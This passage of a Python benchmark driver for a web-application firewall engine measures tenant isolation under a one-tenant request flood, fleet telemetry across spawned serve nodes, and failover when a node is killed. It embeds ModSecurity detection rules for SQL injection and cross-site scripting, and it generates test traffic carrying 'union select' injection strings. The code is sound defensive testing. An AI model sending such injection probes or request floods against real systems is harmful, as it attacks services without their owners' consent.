                                  name="ipt-flood")
            ft.start()
        t_end = time.time() + phase_s
        i = 0
        batch_sz = 6
        period = batch_sz / victim_rps
        pending: list = []
        while time.time() < t_end:
            tick = time.perf_counter()
            for _ in range(batch_sz):
                r = dataclasses.replace(
                    base_reqs[i % len(base_reqs)],
                    tenant=1 + (i % n_tenants),
                    request_id="v%d" % i)
                t0 = time.perf_counter()
                fut = b.submit(r)

                def _cb(f, t0=t0):
                    dt = time.perf_counter() - t0
                    try:
                        v = f.result()
                    except Exception:
                        return
                    with lock:
                        lat.append(dt)
                        if not v.fail_open and not v.degraded:
                            good[0] += 1
                fut.add_done_callback(_cb)
                pending.append(fut)
                i += 1
            sleep = period - (time.perf_counter() - tick)
            if sleep > 0:
                time.sleep(sleep)
        for fut in pending:
            try:
                fut.result(timeout=30)
            except Exception:
                pass
        stop.set()
        if ft is not None:
            ft.join(timeout=5)
        with lock:
            xs = sorted(lat)
        n = len(xs)

        def pct(p):
            return int(xs[min(int(p * n), n - 1)] * 1e6) if n else None
        return {
            "victims_sent": i,
            "victims_measured": n,
            "victim_p50_us": pct(0.50),
            "victim_p99_us": pct(0.99),
            "victim_goodput_rps": round(good[0] / phase_s, 1),
            "hostile_sent": hostile_sent[0],
            "hostile_curbed": hostile_curbed[0],
        }

    try:
        # unmeasured pacing warm: the first paced waves pay cold-cache
        # effects (small-Q executables, allocator warmup) that would
        # inflate the SOLO baseline and flatter the flood phase —
        # measured on this host as a ~4x p99 asymmetry between an
        # unwarmed first phase and the second
        log("TENANTFAIR: pacing warm...")
        _save = phase_s
        try:
            phase_s = 2.0
            run_phase(flood=False)
        finally:
            phase_s = _save
        log("TENANTFAIR: solo phase (%d tenants, no flood)..." % n_tenants)
        solo = run_phase(flood=False)
        time.sleep(1.0)   # settle: queues drain, EWMAs decay
        log("TENANTFAIR: flood phase (tenant %d flat-out)..."
            % hostile_tenant)
        flood = run_phase(flood=True)
    finally:
        b.close()
    g = b.tenant_guard
    result = {
        "metric": "victim p99 under a one-tenant flood vs solo "
                  "baseline (tenant-fair admission + flood guard, "
                  "bundled CRS pack, CPU)",
        "n_tenants": n_tenants,
        "platform": "cpu",   # per-leg backend tag (ISSUE 13 satellite)
        "host_cpus": os.cpu_count(),
        "phase_s": phase_s,
        "victim_rps_offered": victim_rps,
        "solo": solo,
        "flood": flood,
        "guard": g.brief() if g is not None else None,
        "ladder_steps_up": pipeline.load_controller.steps_up,
        "shed": dict(pipeline.stats.shed),
    }
    if solo.get("victim_p99_us") and flood.get("victim_p99_us"):
        infl = flood["victim_p99_us"] / solo["victim_p99_us"]
        result["victim_p99_inflation"] = round(infl, 3)
        if solo.get("victim_goodput_rps"):
            result["victim_goodput_ratio"] = round(
                flood["victim_goodput_rps"] / solo["victim_goodput_rps"],
                3)
        if not flood.get("hostile_curbed"):
            log("TENANTFAIR WARNING: the flood was never shed or "
                "degraded — the leg measured contention, not "
                "isolation (flood too weak for this host?)")
        if infl > 1.25:
            log("=" * 64)
            log("TENANTFAIR WARNING: victim p99 inflated %.2fx under a "
                "one-tenant flood (gate: <= 1.25x solo baseline) — "
                "tenant isolation is NOT holding on this host "
                "(solo p99 %dus -> flood p99 %dus; hostile curbed "
                "%d/%d)." % (infl, solo["victim_p99_us"],
                             flood["victim_p99_us"],
                             flood["hostile_curbed"],
                             flood["hostile_sent"]))
            if (os.cpu_count() or 1) < 2:
                log("  (1-core host: the flooder, dispatch thread and "
                    "victim pacer share one CPU — some inflation is "
                    "scheduling contention, not unfairness; rerun on "
                    ">=2 cores for the isolation number)")
            log("=" * 64)
        else:
            log("TENANTFAIR: victim p99 inflation %.2fx (gate <= "
                "1.25x); goodput ratio %s" %
                (infl, result.get("victim_goodput_ratio")))
    else:
        log("TENANTFAIR WARNING: a phase measured no victim latencies "
            "— the inflation gate was NOT evaluated this round")
    if out_path is None:
        out_path = os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                "reports", "TENANTFAIR.json")
    try:
        os.makedirs(os.path.dirname(out_path), exist_ok=True)
        with open(out_path, "w") as f:
            json.dump(result, f, indent=2)
        log("TENANTFAIR written to %s" % out_path)
    except OSError as e:
        log("TENANTFAIR write failed (non-fatal): %r" % (e,))
    return result


#: rules for the --fleet-obs nodes: every node serves the sqli rule;
#: the LAST node also loads the xss file, so its pack generation
#: differs and the aggregator's cross-check must flag exactly it
_FLEET_TINY_RULES = """
SecRule REQUEST_URI|ARGS|REQUEST_BODY "@rx (?i)union\\s+select" \\
    "id:942100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-sqli'"
"""
_FLEET_EXTRA_RULES = """
SecRule REQUEST_URI|ARGS "@rx (?i)<script" \\
    "id:941100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-xss'"
"""


def run_fleet_obs(n_nodes: int = 3, out_path: str | None = None) -> dict:
    """FLEETOBS leg (ISSUE 18): the fleet telemetry plane measured over
    REAL serve processes — ``n_nodes`` subprocess serve loops on the
    UDS protocol, each exposing its own HTTP observability surface, and
    a FleetObserver scraping/merging them from this process.  The one
    JSON line proves, on live traffic:

    * **conservation** — fleet ``ipt_requests_total`` equals the sum of
      the per-node addends equals the requests this driver counted on
      the wire, three times over: full fleet, a cycle with one node
      faulted stale mid-run (``scrape_5xx`` site), and post-recovery;
    * **merge determinism** — the traffic-weighted MeasuredProfile
      merge reproduces the same content hash with the argument order
      reversed;
    * **skew** — the last node serves one extra rule file on purpose,
      so the generation cross-check must flag it (and only it);
    * **SLO burn** — two scrape cycles with traffic between them give
      the burn engine real deltas; ``ipt_slo_*`` series must appear on
      the aggregated exposition;
    * **scrape overhead** — best-of-N A/B wall time of an identical
      wave with and without a 0.2s-interval background scraper; the
      budget is < 3% (being observed must cost ~nothing).

    Writes reports/FLEETBENCH.json."""
    import shutil
    import socket as socket_mod
    import subprocess
    import tempfile

    from ingress_plus_tpu.compiler.profile import MeasuredProfile
    from ingress_plus_tpu.control.fleetobs import FleetObserver
    from ingress_plus_tpu.serve.normalize import Request
    from ingress_plus_tpu.serve.protocol import (
        RESP_MAGIC, FrameReader, decode_response, encode_request)
    from ingress_plus_tpu.utils import faults
    from ingress_plus_tpu.utils.faults import FaultPlan

    base_port = 19961
    repo = os.path.dirname(os.path.abspath(__file__))
    tmp = tempfile.mkdtemp(prefix="ipt-fleetbench-")
    procs: list = []
    socks: list = []
    sent = [0] * n_nodes
    rid_ctr = [5000]
    saved_plan = faults.active()
    faults.clear()
    obs = FleetObserver()
    try:
        log("FLEETOBS: launching %d serve nodes..." % n_nodes)
        for i in range(n_nodes):
            rules_dir = os.path.join(tmp, "rules%d" % i)
            os.makedirs(rules_dir)
            with open(os.path.join(rules_dir, "tiny.conf"), "w") as f:
                f.write(_FLEET_TINY_RULES)
            if i == n_nodes - 1:
                with open(os.path.join(rules_dir, "extra.conf"),
                          "w") as f:
                    f.write(_FLEET_EXTRA_RULES)
            sock = os.path.join(tmp, "n%d.sock" % i)
            env = dict(os.environ)
            env["XLA_FLAGS"] = "--xla_force_host_platform_device_count=1"
            procs.append(subprocess.Popen(
                [sys.executable, "-m", "ingress_plus_tpu.serve",
                 "--socket", sock, "--http-port", str(base_port + i),
                 "--rules-dir", rules_dir, "--platform", "cpu",
                 "--max-delay-us", "1000", "--no-warmup"],
                cwd=repo, env=env))
            socks.append(sock)
            obs.add_node("n%d" % i,
                         target="127.0.0.1:%d" % (base_port + i))
        for i, sock in enumerate(socks):
            for _ in range(600):
                if os.path.exists(sock):
                    try:
                        s = socket_mod.socket(socket_mod.AF_UNIX)
                        s.connect(sock)
                        s.close()
                        break
                    except OSError:
                        pass
                if procs[i].poll() is not None:
                    raise RuntimeError("fleet node %d died at startup"
                                       % i)
                time.sleep(0.1)
            else:
                raise RuntimeError("fleet node %d socket never appeared"
                                   % i)

        def wave(per_node: int = 32) -> float:
            """One identical traffic wave to every node (mixed benign +
            sqli); returns wall seconds and counts what was SENT — the
            independent side of the conservation audit."""
            t0 = time.perf_counter()
            for i, sock in enumerate(socks):
                reqs = []
                for j in range(per_node):
                    rid = rid_ctr[0]
                    rid_ctr[0] += 1
                    uri = ("/q?a=1+union+select+%d" % rid if j % 5 == 0
                           else "/item/%d?q=benign" % rid)
                    reqs.append((Request(uri=uri,
                                         headers={"Host": "fleet.example"},
                                         tenant=1 + j % 8,
                                         request_id=str(rid)), rid))
                s = socket_mod.socket(socket_mod.AF_UNIX)
                s.connect(sock)
                s.settimeout(120)
                for req, rid in reqs:
                    s.sendall(encode_request(req, req_id=rid))
                reader, got = FrameReader(RESP_MAGIC), 0
                while got < len(reqs):
                    for fr in reader.feed(s.recv(65536)):
                        decode_response(fr)
                        got += 1
                s.close()
                sent[i] += per_node
            return time.perf_counter() - t0

        def conservation() -> dict:
            fleet, per_node = obs.counters_snapshot()
            addends = per_node.get("ipt_requests_total", {})
            reachable_sent = sum(c for i, c in enumerate(sent)
                                 if obs.nodes[i].up)
            total = fleet.get("ipt_requests_total", -1.0)
            return {
                "sent_reachable": reachable_sent,
                "fleet_total": total,
                "per_node": {k: addends[k] for k in sorted(addends)},
                "ok": (total == float(reachable_sent)
                       and sum(addends.values())
                       == float(reachable_sent)),
            }

        # --- leg 1: traffic, two scrape cycles (SLO deltas need two),
        # full-fleet conservation, skew, profile-merge determinism
        log("FLEETOBS: warm wave + scrape cycle 1...")
        wave()
        obs.scrape()
        time.sleep(0.3)
        log("FLEETOBS: wave + scrape cycle 2...")
        wave()
        health = obs.scrape()
        cons_full = conservation()
        gen_skew = [f for f in health["skew_findings"]
                    if f["kind"] == "generation_skew"]
        profs = [n.profile for n in obs.nodes if n.profile is not None]
        merged = obs.merged_profile()
        merge_hashes = []
        if len(profs) == n_nodes:
            merge_hashes = [
                MeasuredProfile.merge(profs).content_hash(),
                MeasuredProfile.merge(list(reversed(profs)))
                .content_hash()]
        fleet_text = obs.fleet_metrics()
        slo = obs.fleet_slo()

        # --- leg 2: one node faulted stale mid-run; conservation must
        # hold over the reachable subset, then recover to the full sum
        log("FLEETOBS: stale drill (scrape_5xx on the next cycle)...")
        faults.install(FaultPlan.from_spec("scrape_5xx:times=1"))
        wave()
        stale_health = obs.scrape()
        faults.clear()
        cons_stale = conservation()
        stale_names = [n.name for n in obs.nodes if n.stale]
        wave()
        obs.scrape()
        cons_recovered = conservation()

        # --- leg 3: A/B scrape overhead on an identical wave (nodes
        # are warm by now; best-of keeps host noise out of the number)
        log("FLEETOBS: A/B scrape-overhead wave (unscraped)...")
        best_off = min(wave(per_node=48) for _ in range(3))
        log("FLEETOBS: A/B scrape-overhead wave (scraped @0.2s)...")
        obs.start_scraping(interval_s=0.2)
        try:
            best_on = min(wave(per_node=48) for _ in range(3))
        finally:
            obs.close()
        overhead = best_on / best_off - 1.0

        result = {
            "metric": "fleet telemetry plane: counter conservation, "
                      "merge determinism, skew + SLO burn over %d "
                      "serve nodes" % n_nodes,
            "platform": "cpu",
            "n_nodes": n_nodes,
            "fleet": {
                "conservation_full": cons_full,
                "conservation_one_stale": cons_stale,
                "conservation_recovered": cons_recovered,
                "stale_drill": {
                    "nodes_up": stale_health["nodes_up"],
                    "nodes_stale": stale_health["nodes_stale"],
                    "stale_nodes": stale_names,
                },
                "skew_findings": health["skew_findings"],
                "generation_skew_nodes": sorted(
                    f["node"] for f in gen_skew),
                "merged_profile": health["merged_profile"],
                "merge_hashes": merge_hashes,
                "merge_deterministic": (len(merge_hashes) == 2
                                        and merge_hashes[0]
                                        == merge_hashes[1]),
                "slo": slo,
                "slo_series_exposed": "ipt_slo_burn_rate" in fleet_text,
                "scrape_overhead": {
                    "best_unscraped_s": round(best_off, 4),
                    "best_scraped_s": round(best_on, 4),
                    "overhead_frac": round(overhead, 4),
                    "budget_frac": 0.03,
                    "ok": overhead < 0.03,
                },
            },
        }
        ok = (cons_full["ok"] and cons_stale["ok"]
              and cons_recovered["ok"]
              and stale_health["nodes_stale"] == 1
              and result["fleet"]["merge_deterministic"]
              and bool(gen_skew)
              and result["fleet"]["slo_series_exposed"]
              and overhead < 0.03)
        result["fleet"]["ok"] = ok
        if not ok:
            log("=" * 64)
            log("FLEETOBS WARNING: an acceptance leg failed — see the "
                "fleet block (conservation %s/%s/%s, stale=%d, "
                "merge_det=%s, gen_skew=%s, slo_series=%s, "
                "overhead=%.4f)"
                % (cons_full["ok"], cons_stale["ok"],
                   cons_recovered["ok"], stale_health["nodes_stale"],
                   result["fleet"]["merge_deterministic"],
                   bool(gen_skew),
                   result["fleet"]["slo_series_exposed"], overhead))
            log("=" * 64)
        else:
            log("FLEETOBS: all legs ok (fleet total %s == sent %s; "
                "merge hash %s; scrape overhead %.2f%%)"
                % (cons_recovered["fleet_total"],
                   cons_recovered["sent_reachable"],
                   merge_hashes[0] if merge_hashes else "?",
                   overhead * 100.0))
        if out_path is None:
            out_path = os.path.join(repo, "reports", "FLEETBENCH.json")
        try:
            os.makedirs(os.path.dirname(out_path), exist_ok=True)
            with open(out_path, "w") as f:
                json.dump(result, f, indent=2)
            log("FLEETBENCH written to %s" % out_path)
        except OSError as e:
            log("FLEETBENCH write failed (non-fatal): %r" % (e,))
        return result
    finally:
        faults.clear()
        if saved_plan is not None:
            faults.install(saved_plan)
        obs.close()
        for p in procs:
            p.terminate()
        for p in procs:
            try:
                p.wait(timeout=10)
            except Exception:    # noqa: BLE001 — teardown best-effort
                p.kill()
        shutil.rmtree(tmp, ignore_errors=True)


def run_fleet(n_nodes: int = 4, out_path: str | None = None) -> dict:
    """FLEET leg (ISSUE 19): the shared admission front measured over
    REAL processes — ``n_nodes`` subprocess serve loops plus the front
    as its own subprocess (``serve --front``), driven through the
    front's one UDS listener.  The one JSON line proves, on live
    traffic:

    * **fan-out scaling** — aggregate req/s through the front with all
      nodes up is at least 3x the same wave pushed at ONE node directly
      (the front adds balancing, not a bottleneck);
    * **node kill mid-run** — one backend SIGKILLed while a wave is in
      flight: every request still gets EXACTLY one verdict (in-flight
      requests on the dead node come back as synthesized fail-open,
      everything else reroutes), and zero attack requests pass
      unblocked without carrying the fail-open flag — degradation is
      explicit, never silent;
    * **post-kill steady state** — the next wave over the surviving
      nodes serves zero fail-opens and blocks every attack (capacity
      degraded, service intact);
    * **re-admission** — the killed node restarted on the same socket
      is probed half-open, canaried, and re-admitted to UP without
      operator action.

    Writes reports/FLEET.json."""
    import shutil
    import socket as socket_mod
    import subprocess
    import tempfile
    import threading
    import urllib.request

    from ingress_plus_tpu.serve.normalize import Request
    from ingress_plus_tpu.serve.protocol import (
        RESP_MAGIC, FrameReader, decode_response, encode_request)

    base_port = 20061
    front_port = base_port + 50
    repo = os.path.dirname(os.path.abspath(__file__))
    tmp = tempfile.mkdtemp(prefix="ipt-fleet-")
    procs: dict = {}
    node_threads = 8
    rid_ctr = [1]
    rid_lock = threading.Lock()

    def spawn_node(i: int) -> None:
        rules_dir = os.path.join(tmp, "rules%d" % i)
        if not os.path.isdir(rules_dir):
            os.makedirs(rules_dir)
            with open(os.path.join(rules_dir, "tiny.conf"), "w") as f:
                f.write(_FLEET_TINY_RULES)
        env = dict(os.environ)
        env["XLA_FLAGS"] = "--xla_force_host_platform_device_count=1"
        procs["n%d" % i] = subprocess.Popen(
            [sys.executable, "-m", "ingress_plus_tpu.serve",
             "--socket", os.path.join(tmp, "n%d.sock" % i),
             "--http-port", str(base_port + i),
             "--rules-dir", rules_dir, "--platform", "cpu",
             "--max-delay-us", "1000", "--no-warmup"],
            cwd=repo, env=env)

    def wait_sock(path: str, proc, what: str) -> None:
        for _ in range(600):
            if os.path.exists(path):
                try:
                    s = socket_mod.socket(socket_mod.AF_UNIX)
                    s.connect(path)
                    s.close()
                    return
                except OSError:
                    pass
            if proc.poll() is not None:
                raise RuntimeError("%s died at startup" % what)
            time.sleep(0.1)
        raise RuntimeError("%s socket never appeared" % what)

    def front_nodes() -> dict:
        with urllib.request.urlopen(
                "http://127.0.0.1:%d/front/nodes" % front_port,
                timeout=5) as r:
            return {n["name"]: n for n in json.loads(r.read())}

    def wave(sock_path: str, per_thread: int, threads: int,
             attack_every: int = 4,
             mid_run=None) -> dict:
        """``threads`` client connections, each pipelining
        ``per_thread`` mixed requests; returns wall seconds + the full
        verdict ledger keyed by req_id.  ``mid_run`` (optional thunk)
        fires once from the driver after ~1/3 of the wave is in."""
        ledger: dict = {}
        attacks: set = set()
        errs: list = []
        led_lock = threading.Lock()
        started = threading.Barrier(threads + 1)

        def client() -> None:
            with rid_lock:
                rid0 = rid_ctr[0]
                rid_ctr[0] += per_thread
            reqs = []
            for j in range(per_thread):
                rid = rid0 + j
                if attack_every and j % attack_every == 0:
                    uri = "/q?a=1+union+select+%d" % rid
                    with led_lock:
                        attacks.add(rid)
                else:
                    uri = "/item/%d?q=benign" % rid
                reqs.append((Request(uri=uri,
                                     headers={"Host": "fleet.example"},
                                     tenant=1 + j % 8, mode=2,
                                     request_id=str(rid)), rid))
            s = socket_mod.socket(socket_mod.AF_UNIX)
            s.connect(sock_path)
            s.settimeout(120)
            started.wait()
            try:
                for req, rid in reqs:
                    s.sendall(encode_request(req, req_id=rid))
                reader, got = FrameReader(RESP_MAGIC), 0
                while got < len(reqs):
                    data = s.recv(65536)
                    if not data:
                        raise RuntimeError("front closed mid-wave")
                    for fr in reader.feed(data):
                        v = decode_response(fr)
                        with led_lock:
                            if v["req_id"] in ledger:
                                errs.append("dup verdict for %d"
                                            % v["req_id"])
                            ledger[v["req_id"]] = v
                        got += 1
            except Exception as e:  # noqa: BLE001 — audited below
                with led_lock:
                    errs.append("%s: %s" % (type(e).__name__, e))
            finally:
                s.close()

        ts = [threading.Thread(target=client) for _ in range(threads)]
        for t in ts:
            t.start()
        started.wait()
        t0 = time.perf_counter()
        if mid_run is not None:
            # ~1/3 into the wave: far enough in that requests are on
            # every node, early enough that plenty remain to reroute
            time.sleep(0.08)
            mid_run()
        for t in ts:
            t.join()
        wall = time.perf_counter() - t0
        n = per_thread * threads
        fail_open = [r for r, v in ledger.items() if v["fail_open"]]
        unblocked = [r for r in attacks
                     if r in ledger and not ledger[r]["blocked"]
                     and not ledger[r]["fail_open"]]
        return {
            "sent": n, "got": len(ledger),
            "wall_s": round(wall, 4),
            "rps": round(n / wall, 1),
            "attacks": len(attacks),
            "attacks_blocked": sum(
                1 for r in attacks
                if r in ledger and ledger[r]["blocked"]),
            "fail_open": len(fail_open),
            "attacks_unblocked_silent": len(unblocked),
            "errors": errs,
            "lost": n - len(ledger),
        }

    try:
        log("FLEET: launching %d serve nodes + front..." % n_nodes)
        for i in range(n_nodes):
            spawn_node(i)
        for i in range(n_nodes):
            wait_sock(os.path.join(tmp, "n%d.sock" % i),
                      procs["n%d" % i], "fleet node %d" % i)
        front_sock = os.path.join(tmp, "front.sock")
        backends = ["n%d=%s@127.0.0.1:%d"
                    % (i, os.path.join(tmp, "n%d.sock" % i),
                       base_port + i) for i in range(n_nodes)]
        procs["front"] = subprocess.Popen(
            [sys.executable, "-m", "ingress_plus_tpu.serve",
             "--front", "--socket", front_sock,
             "--http-port", str(front_port),
             "--probe-interval-s", "0.3"]
            + [a for b in backends for a in ("--backend", b)],
            cwd=repo, env=dict(os.environ))
        wait_sock(front_sock, procs["front"], "front")
        for _ in range(100):
            if sum(1 for n in front_nodes().values()
                   if n["state"] == "up") == n_nodes:
                break
            time.sleep(0.1)
        else:
            raise RuntimeError("front never saw all %d nodes up"
                               % n_nodes)

        # --- leg 1: fan-out scaling, best-of-3 each way (one node
        # direct vs the full fleet through the front, same wave shape)
        log("FLEET: warmup wave...")
        wave(front_sock, 32, node_threads)
        log("FLEET: single-node baseline waves...")
        single = min((wave(os.path.join(tmp, "n0.sock"), 64,
                           node_threads) for _ in range(3)),
                     key=lambda w: w["wall_s"])
        log("FLEET: fleet waves through the front...")
        fleet_w = min((wave(front_sock, 64, node_threads)
                       for _ in range(3)),
                      key=lambda w: w["wall_s"])
        speedup = fleet_w["rps"] / single["rps"] if single["rps"] else 0.0
        # the ≥3x gate needs real parallel hardware: n_nodes detection
        # processes + the front + the driver on ONE core measures the
        # scheduler, not the fan-out.  Waive (loudly, recorded in the
        # artifact) when the host can't physically demonstrate scaling.
        host_cores = len(os.sched_getaffinity(0))
        speedup_enforced = host_cores >= n_nodes
        log("FLEET: single %.0f req/s, fleet %.0f req/s (%.2fx, "
            "%d-core host, 3x gate %s)"
            % (single["rps"], fleet_w["rps"], speedup, host_cores,
               "enforced" if speedup_enforced
               else "WAIVED: host too small"))

        # --- leg 2: SIGKILL one node mid-wave; exactly-one-verdict
        # must hold and no attack may pass silently unblocked
        log("FLEET: kill drill (SIGKILL n1 mid-wave)...")
        kill_w = wave(front_sock, 96, node_threads,
                      mid_run=lambda: procs["n1"].kill())
        procs["n1"].wait(timeout=10)
        log("FLEET: kill wave: %d/%d verdicts, %d fail-open, "
            "%d attacks silently unblocked"
            % (kill_w["got"], kill_w["sent"], kill_w["fail_open"],
               kill_w["attacks_unblocked_silent"]))

        # --- leg 3: post-kill steady state over the survivors
        for _ in range(50):   # let the front finish ejecting n1
            states = front_nodes()
            if states["n1"]["state"] != "up":
                break
            time.sleep(0.1)
        post_w = wave(front_sock, 64, node_threads)
        ejected = front_nodes()["n1"]["state"]

        # --- leg 4: restart n1 on the same socket; the front must
        # probe it half-open, canary it, and re-admit without help
        log("FLEET: restarting n1 for re-admission...")
        os.unlink(os.path.join(tmp, "n1.sock"))
        spawn_node(1)
        wait_sock(os.path.join(tmp, "n1.sock"), procs["n1"],
                  "restarted n1")
        for _ in range(300):
            n1 = front_nodes()["n1"]
            if n1["state"] == "up":
                break
            time.sleep(0.1)
        else:
            raise RuntimeError("front never re-admitted n1: %r" % (n1,))
        readmit_w = wave(front_sock, 32, node_threads)
        n1_after = front_nodes()["n1"]

        result = {
            "metric": "shared admission front: fan-out scaling, node "
                      "kill mid-run, re-admission over %d serve nodes"
                      % n_nodes,
            "platform": "cpu",
            "n_nodes": n_nodes,
            "fleet_front": {
                "single_node": single,
                "fleet": fleet_w,
                "speedup": round(speedup, 2),
                "speedup_target": 3.0,
                "host_cores": host_cores,
                "speedup_gate": ("enforced" if speedup_enforced
                                 else "waived:%d-core host cannot "
                                      "demonstrate %d-way fan-out"
                                      % (host_cores, n_nodes)),
                "kill_wave": kill_w,
                "post_kill_wave": post_w,
                "ejected_state": ejected,
                "readmit_wave": readmit_w,
                "readmitted": {
                    "state": n1_after["state"],
                    "readmissions": n1_after["readmissions"],
                    "forwarded": n1_after["forwarded"],
                },
            },
        }
        ok = ((speedup >= 3.0 or not speedup_enforced)
              and kill_w["lost"] == 0 and not kill_w["errors"]
              and kill_w["attacks_unblocked_silent"] == 0
              and post_w["lost"] == 0 and post_w["fail_open"] == 0
              and post_w["attacks_blocked"] == post_w["attacks"]
              and n1_after["state"] == "up"
              and n1_after["readmissions"] >= 1)
        result["fleet_front"]["ok"] = ok
        if not ok:
            log("=" * 64)
            log("FLEET WARNING: an acceptance leg failed — speedup "
                "%.2fx (>=3.0), kill lost=%d errs=%d silent=%d, post "
                "lost=%d fo=%d, n1=%s/readmits=%d"
                % (speedup, kill_w["lost"], len(kill_w["errors"]),
                   kill_w["attacks_unblocked_silent"], post_w["lost"],
                   post_w["fail_open"], n1_after["state"],
                   n1_after["readmissions"]))
            log("=" * 64)
        else:
            log("FLEET: all legs ok (%.2fx fan-out, zero verdict loss "
                "through the kill, n1 re-admitted)" % speedup)
        if out_path is None:
            out_path = os.path.join(repo, "reports", "FLEET.json")
        try:
            os.makedirs(os.path.dirname(out_path), exist_ok=True)
            with open(out_path, "w") as f:
                json.dump(result, f, indent=2)
            log("FLEET written to %s" % out_path)
        except OSError as e:
            log("FLEET write failed (non-fatal): %r" % (e,))
        return result
    finally:
        for p in procs.values():
            p.terminate()
        for p in procs.values():
            try:
                p.wait(timeout=10)
            except Exception:    # noqa: BLE001 — teardown best-effort
                p.kill()
        shutil.rmtree(tmp, ignore_errors=True)


def run_bench(force_cpu_err: str | None = None) -> dict:
    """Measure and return the result dict.  ``force_cpu_err`` non-None
    means a prior attempt failed at dispatch time despite a good probe
    (the BENCH_r01 fail-fast mode): skip the probe, pin CPU, and carry
    the error note into the result."""
    import jax
    import jax.numpy as jnp

    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
    from ingress_plus_tpu.models.engine import EngineTables
    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.serve.normalize import merge_rows, rows_for_requests
    from ingress_plus_tpu.utils.corpus import generate_corpus
    from ingress_plus_tpu.utils.microbench import best_time, k_diff_time

    quick = "--quick" in sys.argv
    n_req = 256 if quick else 2048
    iters = 129 if quick else 65  # small batches need more reps for signal

    global _PLATFORM_USED
    probe_forced = None
    if force_cpu_err is not None:
        from ingress_plus_tpu.utils.platform import force_cpu_devices

        force_cpu_devices(1)
        platform, backend_err = "cpu", force_cpu_err
        probe_forced = "tpu-dispatch-failed retry"
    elif os.environ.get("BENCH_PLATFORM") == "cpu":
        # explicit CPU run (smoke tests / CI): skip the ~8min TPU probe
        # ladder entirely
        from ingress_plus_tpu.utils.platform import force_cpu_devices

        force_cpu_devices(1)
        platform, backend_err = "cpu", None
        probe_forced = "BENCH_PLATFORM=cpu"
    else:
        platform, backend_err = probe_backend()
    _PLATFORM_USED = platform
    probe_block = _probe_block(platform, backend_err, forced=probe_forced)
    _arm_watchdog()  # probe can eat ~3min of the budget; restart the clock
    log("platform: %s%s" % (platform, " (fallback: %s)" % backend_err if backend_err else ""))
    if platform == "cpu" and probe_forced is None:
        # silently-CPU guard (ISSUE 13 satellite): a run that WANTED a
        # TPU and fell back must say so at the top of the round log,
        # not just in a json field at the bottom
        log("=" * 64)
        log("PLATFORM WARNING: this bench is running on CPU (%s).  "
            "Every number below is a CPU proxy; the artifact header's "
            "`probe` block carries the verdict."
            % (backend_err or "no TPU plugin"))
        log("=" * 64)

    t0 = time.time()
    cr = compile_ruleset(load_bundled_rules())
    log("ruleset: %d rules, %d factors, %d words (compiled in %.1fs)"
        % (cr.n_rules, cr.tables.n_factors, cr.tables.n_words, time.time() - t0))

    corpus = generate_corpus(n=n_req, attack_fraction=0.2, seed=42)
    requests = [lr.request for lr in corpus]
    pipeline = DetectionPipeline(cr)  # reuse its row prep config
    rows = rows_for_requests(requests, needed_sv=pipeline.needed_sv)
    data_list, req_list, sv_list = merge_rows(rows)
    total_bytes = sum(len(d) for d in data_list)
    log("corpus: %d requests -> %d scan rows, %.2f scanned KB/request"
        % (n_req, len(data_list), total_bytes / n_req / 1024))

    # Length bucketing: corpus rows average ~0.3KB with a long tail; one
    # padded (B, 512) batch would be ~85% padding.  The serve batcher does
    # the same bucketing online.
    edges = DetectionPipeline.L_BUCKETS  # identical tiers to production

    def build_device_buckets(cr_x, dat, req_ids, svs, verbose=False):
        """Bucket + pad + device_put merged rows for one ruleset — the
        ONE buffer-building path shared by the live-pack and fixed-pack
        legs (review finding: a copy diverging between legs would skew
        exactly the cross-round comparability the fixed leg exists
        for); the numpy assembly itself is bucket_rows_np, shared with
        the PACKSCALE leg too."""
        bufs = []
        for edge, tokens, lengths, rreq, row_sv in bucket_rows_np(
                dat, req_ids, svs, cr_x.rule_sv_mask.shape[1], edges):
            bufs.append((
                # uint8 end-to-end (ISSUE 13): the raw-byte device
                # contract — 4x less host→device transfer volume than
                # the old int32 upcast; every scan impl casts on-device
                jax.device_put(tokens),
                jax.device_put(lengths),
                jax.device_put(rreq),
                jax.device_put(row_sv),
            ))
            if verbose:
                log("bucket %4dB: %d rows" % (edge, tokens.shape[0]))
        return tuple(bufs)

    n_sv = cr.rule_sv_mask.shape[1]
    tables = EngineTables.from_ruleset(cr)
    device_buckets = build_device_buckets(cr, data_list, req_list,
                                          sv_list, verbose=True)

    from ingress_plus_tpu.models.engine import detect_rows

    scanner = scanner2 = scanner3 = None
    if platform != "cpu":
        from ingress_plus_tpu.ops.pallas_scan import (
            PallasPairScanner,
            PallasScanner,
        )

        # constructor failures must not kill the whole capture — a TPU
        # window may be the only one the round gets (tpu_hunt)
        try:
            scanner = PallasScanner(tables.scan)
        except Exception as e:
            log("PallasScanner unavailable (non-fatal): %r" % e)
        try:
            scanner2 = PallasPairScanner(tables.scan)
        except Exception as e:
            log("PallasPairScanner unavailable (non-fatal): %r" % e)
    try:
        # built on EVERY platform: the raw-byte scanner serves its XLA
        # reference lowering on CPU (an explicit --impl=pallas3 CPU run
        # measures the fused raw-byte program, docs/SCAN_KERNEL.md)
        from ingress_plus_tpu.ops.pallas_scan import PallasByteScanner

        scanner3 = PallasByteScanner(tables.scan)
    except Exception as e:
        log("PallasByteScanner unavailable (non-fatal): %r" % e)

    def make_detect_k(impl: str):
        """K state-chained repetitions of the full multi-bucket batch for
        one scan implementation (VERDICT round-1: the serving/bench path
        must measure pair vs take vs pallas, not assume).

        Fused mapping (docs/SCAN_KERNEL.md, the serving path's
        detect_device_multi shape): every bucket scans at its own
        (B, L), the sticky match words concatenate, and the factor→rule
        mapping — the one stage whose cost scales with rule count — runs
        ONCE per batch instead of once per bucket.

        VERDICT round-2 item 1a: ``tabs`` and ``bufs`` are jit ARGUMENTS,
        not closure constants.  Closing over the device buckets made the
        whole scan chain (constant tokens -> constant match words ->
        segment_max scatter) compile-time constant, and XLA spent 2x33s
        constant-folding the scatter-max (BENCH_r02 tail).  As traced
        parameters nothing can fold and compiles stay in seconds."""
        from ingress_plus_tpu.ops.scan import scan_bytes, scan_pairs

        @functools.partial(jax.jit, static_argnames=("k",))
        def detect_k(k: int, tabs, bufs):
            W = tabs.scan.n_words

            # The returned value must depend on EVERY bucket's work, or
            # XLA's while-loop DCE deletes untouched loop-carry chains and
